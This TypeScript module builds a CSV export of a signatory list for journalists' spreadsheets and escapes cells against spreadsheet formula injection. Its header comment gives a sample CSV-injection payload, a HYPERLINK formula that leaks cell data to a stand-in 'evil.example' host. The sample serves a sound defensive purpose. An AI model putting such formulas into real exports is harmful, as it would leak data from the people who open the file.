// The signatory list as CSV (RFC 4180: comma-separated, CRLF line ends, fields
// quoted when they hold a comma, a quote or a line break, quotes doubled), for
// journalists' spreadsheets. UTF-8 without a byte-order mark, so the header is
// exactly `name,title,public_line,team`. When verified signers stayed unnamed
// (decision 019), one last row says so: its name cell holds the sentence in square
// brackets ("[And 37 more verified signatories who …]"), its other cells empty.
//
// Spreadsheet formula injection (OWASP "CSV injection"): a name such as
// `=HYPERLINK("https://evil.example?"&A2,"click")` would run as a formula when the
// file is opened. Any cell that starts with = + - @, a tab or a carriage return
// gets a leading apostrophe, which spreadsheets read as "this is text".
import type { PublishedSnapshot } from "~/publishing/snapshot.server";

const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell's text with formula starts defused. */
export function defuseFormula(value: string) {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** One RFC 4180 field. */
export function csvField(value: string | null) {
  const text = defuseFormula(value ?? "");
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function signatoriesCsv(snapshot: Pick<PublishedSnapshot, "signatories" | "unnamed">): string {
  const lines = ["name,title,public_line,team"];
  for (const { name, title, publicLine, team } of snapshot.signatories) {
    lines.push([csvField(name), csvField(title), csvField(publicLine), csvField(team ?? null)].join(","));
  }
  if (snapshot.unnamed) lines.push([csvField(`[${snapshot.unnamed.statement}]`), "", "", ""].join(","));
  return `${lines.join("\r\n")}\r\n`;
}
